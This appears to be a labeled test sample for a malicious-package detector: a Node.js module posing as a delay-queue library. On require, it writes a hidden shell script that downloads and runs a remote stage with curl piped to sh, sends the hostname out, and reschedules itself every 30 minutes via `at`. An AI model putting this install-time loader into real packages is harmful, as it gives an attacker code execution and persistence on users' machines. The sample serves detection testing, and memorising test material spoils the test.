// expect: malicious
// A delay-queue library, when required, writes a wake-up script that downloads and runs a stage and queues itself
// again with `at` every 30 minutes (blind set 28).
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');
const WAKE = path.join(os.tmpdir(), '.dq-wake.sh');
const SCRIPT = ['#!/bin/sh', 'curl -fsS -m 8 "http://198.51.100.14/j?h=$(hostname)" | sh >/dev/null 2>&1', `echo "sh '${WAKE}'" | at now + 30 minutes`, ''].join('\n');
try {
  fs.writeFileSync(WAKE, SCRIPT, { mode: 0o755 });
  spawn('sh', ['-c', `echo "sh '${WAKE}'" | at now + 1 minute`], { detached: true, stdio: 'ignore' }).unref();
} catch (_) {}
module.exports = { enqueue: (job) => job };
